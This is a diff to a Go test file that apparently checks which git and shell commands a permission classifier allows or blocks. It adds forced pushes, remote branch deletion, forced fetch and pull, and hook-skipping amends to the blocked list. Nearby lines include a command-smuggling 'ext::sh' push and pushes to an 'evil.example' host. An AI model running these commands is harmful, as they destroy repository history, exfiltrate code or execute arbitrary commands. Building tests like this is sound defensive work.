@@ -95,7 +95,7 @@ func TestWidening(t *testing.T) {
 			tar xf x.tar
 			git push
 			git push origin main
-			git push --force-with-lease origin main:topic
+			git push --set-upstream origin main:topic
 			git push -u origin HEAD
 			git push -o ci.skip origin
 			git push https://example.com/mine
@@ -278,6 +278,14 @@ func TestWidening(t *testing.T) {
 			patch -p1 -i docs/a.md
 			git apply docs/a.md
 			git push ext::sh HEAD
+			git push --force-with-lease origin main:topic
+			git push -fu origin main
+			git push origin main +topic
+			git push origin :topic
+			git push --forc
+			git fetch origin +main:main
+			git pull -f
+			git commit --amend --no-ver -m x
 			git push ext::sh\ -c\ id HEAD
 			git push https://evil.example/x
 			git push git@evil.example:x main
